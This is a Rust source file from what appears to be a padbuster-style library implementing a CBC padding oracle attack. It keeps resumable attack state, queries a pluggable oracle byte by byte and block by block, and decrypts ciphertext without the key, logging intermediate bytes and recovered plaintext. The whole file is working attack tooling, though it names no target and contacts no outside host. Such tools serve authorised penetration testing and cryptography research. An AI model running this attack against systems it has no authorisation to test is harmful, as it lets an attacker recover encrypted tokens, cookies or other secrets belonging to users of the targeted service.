use std::collections::VecDeque;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use log::info;

use crate::{
    BlockSolver, ByteSolver, CipherText, LogReporter, Oracle, PadbusterError, Progress,
    ProgressReporter, SolveEvent,
};

/// `AttackState` is everything needed to carry on (or resume) an attack
///
/// The plaintext grows at the front: first the bytes of the block in
/// progress, last byte first, then whole blocks from the end of the
/// message. Block index, byte offset and padding hypothesis always follow
/// from its length.
#[derive(Debug, Clone)]
pub struct AttackState {
    ciphertext: CipherText,
    plaintext: VecDeque<u8>,
    block_index: usize,
    offset: usize,
    hypothesis: u8,
    correct_pad: Option<u8>,
}

impl AttackState {
    /// Start a fresh attack on `ciphertext`
    pub fn new(ciphertext: CipherText) -> Self {
        let block_size = ciphertext.block_size();
        AttackState {
            block_index: ciphertext.len_blocks() - 1,
            offset: block_size - 1,
            hypothesis: 1,
            correct_pad: None,
            plaintext: VecDeque::with_capacity(ciphertext.payload_len()),
            ciphertext,
        }
    }

    /// Resume an attack from previously recovered plaintext
    ///
    /// # Arguments
    ///
    /// * `ciphertext` - The original ciphertext, IV included.
    /// * `plaintext` - Untrimmed plaintext recovered so far, i.e. a suffix of the padded message.
    ///
    pub fn resume(ciphertext: CipherText, plaintext: &[u8]) -> Result<Self, PadbusterError> {
        if plaintext.len() > ciphertext.payload_len() {
            return Err(PadbusterError::ConfigurationError(format!(
                "Recovered plaintext of {} bytes longer than the {} bytes to decrypt",
                plaintext.len(),
                ciphertext.payload_len()
            )));
        }
        let block_size = ciphertext.block_size();
        if let Some(&pad) = plaintext.last() {
            if pad == 0 || pad as usize > block_size {
                return Err(PadbusterError::InvalidPaddingError(pad));
            }
            let span = plaintext.len().min(pad as usize);
            if plaintext[plaintext.len() - span..].iter().any(|&b| b != pad) {
                return Err(PadbusterError::InvalidPaddingError(pad));
            }
        }

        let mut state = AttackState::new(ciphertext);
        for &b in plaintext.iter().rev() {
            state.record(b);
        }
        Ok(state)
    }

    /// Parse a hex ciphertext and an optional hex partial plaintext
    pub fn from_hex(
        ciphertext: &str,
        plaintext: Option<&str>,
        block_size: usize,
    ) -> Result<Self, PadbusterError> {
        let ciphertext = CipherText::from_hex(ciphertext, block_size)?;
        let plaintext = match plaintext {
            Some(p) => hex::decode(p.trim())?,
            None => Vec::new(),
        };
        Self::resume(ciphertext, &plaintext)
    }

    fn record(&mut self, plain: u8) {
        self.plaintext.push_front(plain);
        if self.plaintext.len() == 1 {
            self.correct_pad = Some(plain);
        }

        let block_size = self.ciphertext.block_size();
        let done = self.plaintext.len();
        let in_block = done % block_size;
        self.block_index = self.ciphertext.len_blocks() - 1 - done / block_size;
        self.offset = block_size - 1 - in_block;
        self.hypothesis = (in_block + 1) as u8;
    }

    pub fn ciphertext(&self) -> &CipherText {
        &self.ciphertext
    }

    /// Untrimmed plaintext recovered so far, to persist for a later resume
    pub fn plaintext(&self) -> Vec<u8> {
        self.plaintext.iter().copied().collect()
    }

    pub fn plaintext_hex(&self) -> String {
        hex::encode(self.plaintext())
    }

    /// Index of the block in progress, 0 once everything is decrypted
    pub fn block_index(&self) -> usize {
        self.block_index
    }

    pub fn offset(&self) -> usize {
        self.offset
    }

    pub fn hypothesis(&self) -> u8 {
        self.hypothesis
    }

    /// Genuine padding length, once the last byte of the message is known
    pub fn correct_pad(&self) -> Option<u8> {
        self.correct_pad
    }

    pub fn is_done(&self) -> bool {
        self.block_index == 0
    }

    pub fn progress(&self) -> Progress {
        Progress::new(self.plaintext.len(), self.ciphertext.payload_len())
    }

    /// Plaintext bytes already known in the block in progress
    fn block_plaintext(&self) -> Vec<u8> {
        let in_block = self.plaintext.len() % self.ciphertext.block_size();
        self.plaintext.iter().take(in_block).copied().collect()
    }

    fn is_final_block(&self) -> bool {
        self.block_index == self.ciphertext.len_blocks() - 1
    }

    /// Plaintext without its genuine padding
    pub fn finish(&self) -> Result<Vec<u8>, PadbusterError> {
        if !self.is_done() {
            return Err(PadbusterError::ConfigurationError(format!(
                "Attack still in progress at block {}",
                self.block_index
            )));
        }
        let pad = self.correct_pad.unwrap_or(0) as usize;
        let mut decrypted = self.plaintext();
        decrypted.truncate(decrypted.len().saturating_sub(pad));

        info!(
            "*** Finished ***
        [+] Decrypted value (ASCII): {}
        [+] Decrypted value (HEX): {}
        [+] Decrypted value (Base64): {}",
            String::from_utf8_lossy(&decrypted),
            hex::encode(&decrypted),
            STANDARD.encode(&decrypted)
        );

        Ok(decrypted)
    }
}

/// `Padbuster` drives a padding oracle attack over a whole ciphertext
pub struct Padbuster<O: Oracle> {
    oracle: O,
    block_size: usize,
    fan_out: usize,
}

impl<O: Oracle> Padbuster<O> {
    /// Return a Padbuster over the given oracle
    ///
    /// # Arguments
    ///
    /// * `block_size` - Size of CBC block (8, 16, 32).
    /// * `oracle` - Oracle answering `true` for a valid padding.
    ///
    pub fn new(block_size: usize, oracle: O) -> Self {
        Padbuster {
            oracle,
            block_size,
            fan_out: 1,
        }
    }

    /// Probe up to `fan_out` candidates concurrently
    pub fn with_fan_out(mut self, fan_out: usize) -> Self {
        self.fan_out = fan_out.max(1);
        self
    }

    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    /// Decrypt the given IV-prefixed ciphertext
    pub fn decrypt(&self, ciphertext: &[u8]) -> Result<Vec<u8>, PadbusterError> {
        let ciphertext = CipherText::from_bytes(ciphertext, self.block_size)?;
        let mut state = AttackState::new(ciphertext);
        self.run(&mut state, &mut LogReporter)
    }

    /// Decrypt a hex ciphertext, resuming from hex plaintext when given
    pub fn decrypt_hex(
        &self,
        ciphertext: &str,
        plaintext: Option<&str>,
    ) -> Result<Vec<u8>, PadbusterError> {
        let mut state = AttackState::from_hex(ciphertext, plaintext, self.block_size)?;
        self.run(&mut state, &mut LogReporter)
    }

    /// Solve every remaining block, then strip the genuine padding
    pub fn run(
        &self,
        state: &mut AttackState,
        reporter: &mut dyn ProgressReporter,
    ) -> Result<Vec<u8>, PadbusterError> {
        info!("Starting Decrypt Mode");
        info!(
            "Attempting to decrypt {} bytes ({} already known)",
            state.ciphertext.payload_len(),
            state.plaintext.len()
        );

        while !state.is_done() {
            self.step_block(state, reporter)?;
        }
        state.finish()
    }

    /// Solve the block in progress and stop at the next block boundary
    pub fn step_block(
        &self,
        state: &mut AttackState,
        reporter: &mut dyn ProgressReporter,
    ) -> Result<(), PadbusterError> {
        if state.is_done() {
            return Ok(());
        }

        let index = state.block_index;
        let predecessor = state.ciphertext.predecessor(index).clone();
        let target = state.ciphertext.block(index).clone();
        let known = state.block_plaintext();
        info!("*** Starting Block {} ***", index);

        let bytes = ByteSolver::new(&self.oracle, self.fan_out);
        let mut solver = BlockSolver::new(bytes, index, &predecessor, &target);
        if state.is_final_block() {
            solver = solver.final_block(state.correct_pad);
        }

        let block = solver.solve(&known, &mut |event: SolveEvent| match event {
            SolveEvent::Scanning(fraction) => reporter.scanning(state.progress(), fraction),
            SolveEvent::Solved { plaintext, .. } => {
                state.record(plaintext);
                reporter.byte_solved(state.progress(), plaintext);
            }
        })?;

        info!(
            "Block {} Results:
            [+] Cipher Text (HEX): {}
            [+] Intermediate Bytes (HEX): {}
            [+] Plain Text: {}",
            index,
            target.to_hex(),
            predecessor.xor(&block).to_hex(),
            String::from_utf8_lossy(&block)
        );
        reporter.block_solved(index, state.progress());

        Ok(())
    }
}
